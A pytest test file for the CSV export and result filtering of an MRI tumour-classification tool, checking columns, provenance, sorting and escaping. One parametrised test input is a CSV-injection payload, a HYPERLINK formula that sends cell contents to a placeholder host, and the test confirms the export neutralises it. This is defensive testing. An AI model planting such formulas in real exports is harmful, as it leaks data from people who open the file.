import csv
import io
import os
from datetime import UTC, datetime

import pytest

from core.decide.assessment import Assessment
from core.labels import ERROR
from core.report.results import (
    Provenance,
    ScanResult,
    csv_columns,
    filter_results,
    is_results_csv,
    results_csv,
    sort_results,
)
from core.run.model_info import ModelInfo

CLASSES = ["glioma", "meningioma", "notumor", "pituitary"]
MODEL = ModelInfo.from_artifacts({"name": "resnet_run", "classes": CLASSES, "weights_sha256": "ab" * 32}, None)
PROVENANCE = Provenance.of(MODEL, datetime(2026, 12, 1, 9, 30, tzinfo=UTC))


def csv_rows(results) -> list[dict]:
    return list(csv.DictReader(io.StringIO(results_csv(results, CLASSES, PROVENANCE))))


def result(name: str, status: str = "ok", top: str = "glioma", p: float = 0.9, message: str = "") -> ScanResult:
    rest = (1 - p) / 3
    probabilities = {c: (p if c == top else rest) for c in CLASSES}
    return ScanResult(name, "", status, message, Assessment(status, probabilities, message))


@pytest.fixture
def results():
    return [
        result("b.png", top="glioma", p=0.95),
        result("a.png", top="notumor", p=0.60),
        result("c.png", status="uncertain", top="meningioma", p=0.45, message="two classes close"),
        ScanResult("d.txt", "", ERROR, "Not a format this app can read."),
        result("e.png", top="pituitary", p=0.80),
    ]


def names(results):
    return [r.name for r in results]


def test_no_class_and_no_confidence_are_stated_unless_ok(results):
    uncertain, error = results[2], results[3]
    assert uncertain.prediction == "" and uncertain.confidence is None
    assert error.prediction == "" and error.confidence is None
    assert results[0].prediction == "glioma" and results[0].confidence == pytest.approx(0.95)


def test_filters(results):
    assert names(filter_results(results, statuses={"ok"})) == ["b.png", "a.png", "e.png"]
    assert names(filter_results(results, statuses={"uncertain", ERROR})) == ["c.png", "d.txt"]
    # results without a stated class are not hidden by a class or confidence filter
    assert names(filter_results(results, predictions={"glioma"})) == ["b.png", "c.png", "d.txt"]
    assert names(filter_results(results, min_confidence=0.7)) == ["b.png", "c.png", "d.txt", "e.png"]


def test_sorting_puts_missing_values_last(results):
    assert names(sort_results(results, "confidence", descending=True))[:3] == ["b.png", "e.png", "a.png"]
    assert names(sort_results(results, "confidence"))[:3] == ["a.png", "e.png", "b.png"]
    assert set(names(sort_results(results, "confidence"))[3:]) == {"c.png", "d.txt"}
    assert names(sort_results(results, "file")) == ["a.png", "b.png", "c.png", "d.txt", "e.png"]
    assert names(sort_results(results, "prediction"))[:3] == ["b.png", "a.png", "e.png"]
    with pytest.raises(ValueError, match="confidence"):
        sort_results(results, "size")


def test_csv_columns_and_values(results):
    rows = csv_rows(results)
    assert list(rows[0]) == [
        "path",
        "view",
        "prediction",
        "confidence",
        *[f"p_{c}" for c in CLASSES],
        "status",
        "message",
        "outlined_pixels",
        "outlined_mm2",
        "modality",
        "plane",
        "sequence",
        "model",
        "weights_sha256",
        "generated_at",
    ]
    assert list(rows[0]) == csv_columns(CLASSES)
    assert rows[0]["prediction"] == "glioma" and float(rows[0]["confidence"]) == pytest.approx(0.95)
    assert rows[2]["status"] == "uncertain" and rows[2]["prediction"] == "" and rows[2]["confidence"] == ""
    assert float(rows[2]["p_meningioma"]) == pytest.approx(0.45)  # the scores stay available
    assert rows[3]["status"] == ERROR and rows[3]["message"].startswith("Not a format") and rows[3]["p_glioma"] == ""


def test_every_row_names_the_model_its_weights_and_when(results):
    for row in csv_rows(results):
        assert row["model"] == "resnet_run" and row["weights_sha256"] == "ab" * 32
        assert row["generated_at"] == "2026-12-01T09:30:00Z"


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x.example/?q="&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+3"],
)
def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(name):
    """OWASP's advice for CSV injection: a cell starting with = + - or @ gets a leading apostrophe, which
    spreadsheets show as text and do not evaluate."""
    (row,) = csv_rows([ScanResult(name, "", ERROR, "=1+1 is not a scan")])
    assert row["path"] == "'" + name and row["message"] == "'=1+1 is not a scan"


@pytest.mark.parametrize(("name", "written"), [("\t=1+1", "\\t=1+1"), ("\r=1+1", "\\r=1+1"), ("a\rb\n", "a\\rb\\n")])
def test_control_characters_are_written_as_escapes(name, written):
    """A leading tab or CR (which some spreadsheets skip before looking for a formula) and a CR inside a
    cell (which splits a row for many CSV readers) are written visibly, as escapes."""
    rows = csv_rows([ScanResult(name, "", ERROR, "x"), ScanResult("next.png", "", ERROR, "y")])
    assert [row["path"] for row in rows] == [written, "next.png"]


def test_a_file_name_that_is_not_utf8_is_written_legibly():
    """Linux hands Python the bytes of a Latin-1 name as lone surrogates (os.fsdecode), which no UTF-8
    writer accepts; the cell shows the byte instead."""
    name = os.fsdecode(b"caf\xe9.png")
    text = results_csv([ScanResult(name, "", ERROR, "x")], CLASSES, PROVENANCE)
    text.encode("utf-8")  # the CSV is valid UTF-8
    assert csv_rows([ScanResult(name, "", ERROR, "x")])[0]["path"] == "caf\\xe9.png"


def test_a_csv_this_tool_wrote_is_recognised(tmp_path, results):
    ours, scan, empty = tmp_path / "ours.csv", tmp_path / "scan.png", tmp_path / "empty.csv"
    ours.write_text(results_csv(results, CLASSES, PROVENANCE))
    scan.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    empty.write_bytes(b"")
    assert is_results_csv(ours) and not is_results_csv(scan) and not is_results_csv(empty)


def test_rows_say_what_the_scan_is_when_the_file_says_it():
    import numpy as np

    from core.io.scan_io import load_scan
    from core.report.results import scan_result
    from tests.scan_files import dicom_bytes, nifti_bytes

    answer = Assessment("ok", {c: 0.25 for c in CLASSES})
    tags = {"ImageOrientationPatient": [1, 0, 0, 0, 0, -1], "RepetitionTime": "500", "EchoTime": "10"}
    dicom = load_scan(dicom_bytes(np.full((32, 32), 100, np.uint16), extra=tags), "slice.dcm")
    volume = load_scan(nifti_bytes(np.ones((32, 32, 8), np.float32)), "brain.nii")
    rows = csv_rows([scan_result("slice.dcm", dicom, None, answer), scan_result("brain.nii", volume, None, answer)])
    assert [(r["modality"], r["plane"], r["sequence"]) for r in rows] == [("MR", "coronal", "T1"), ("", "axial", "")]
    assert csv_rows([result("a.png")])[0]["plane"] == ""


def test_rows_carry_the_shown_outlines_area_in_pixels_and_in_mm2_where_the_file_gives_a_spacing():
    """The CLI's and the app's CSV give the area of the outline the page draws (core.decide.assessment's
    shown_outline): mm² from a DICOM's PixelSpacing, pixels only for a picture, nothing for a model without a
    mask head or a picture it refused."""
    import numpy as np

    from core.decide.assessment import NOT_MRI, shown_outline
    from core.io.scan_io import load_scan
    from core.model.preprocessing import Preprocessing
    from core.report.results import scan_result
    from tests.scan_files import dicom_bytes

    class MaskModel:  # what shown_outline reads of a Classifier
        preprocessing = Preprocessing(img_size=32, crop_to_head=False)
        outline_presence = 0.5

    mask = np.zeros((32, 32), np.float32)
    mask[8:16, 8:12] = 0.9  # 32 model pixels: 8 x 4
    answer = Assessment("ok", {c: 0.25 for c in CLASSES}, tumour_mask=mask)
    dicom = load_scan(dicom_bytes(np.full((64, 64), 100, np.uint16), extra={"PixelSpacing": [0.5, 0.5]}), "a.dcm")
    picture = load_scan(dicom_bytes(np.full((64, 64), 100, np.uint16)), "b.dcm")
    outlined = shown_outline(MaskModel(), answer, dicom.render(), dicom.pixel_spacing_mm(None))
    rows = csv_rows(
        [
            scan_result("a.dcm", dicom, None, answer, outlined),
            scan_result("b.dcm", picture, None, answer, shown_outline(MaskModel(), answer, picture.render(), None)),
            scan_result("c.dcm", picture, None, Assessment("ok", {c: 0.25 for c in CLASSES})),
        ]
    )
    assert outlined.pixels == int(rows[0]["outlined_pixels"]) == 128  # 32 model pixels, twice the side
    assert float(rows[0]["outlined_mm2"]) == 128 * 0.25
    assert rows[1]["outlined_pixels"] == "128" and rows[1]["outlined_mm2"] == ""
    assert rows[2]["outlined_pixels"] == rows[2]["outlined_mm2"] == ""  # no mask head
    refused = Assessment(NOT_MRI, {c: 0.25 for c in CLASSES}, tumour_mask=mask)
    assert shown_outline(MaskModel(), refused, dicom.render(), None) is None
